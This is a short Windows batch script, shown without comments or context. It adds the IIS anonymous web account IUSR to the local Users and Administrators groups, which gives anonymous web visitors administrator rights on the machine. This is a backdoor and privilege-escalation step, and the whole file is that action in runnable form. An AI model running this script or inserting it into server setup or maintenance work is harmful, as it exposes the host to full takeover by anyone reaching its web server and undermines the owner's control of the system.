@echo off
setlocal
set G1=Users
set G2=Administrators
for /l %%i in (1,1,2) do (
  call set "G=%%G%%i%%"
  call net localgroup "%%G%%" IUSR /add
)
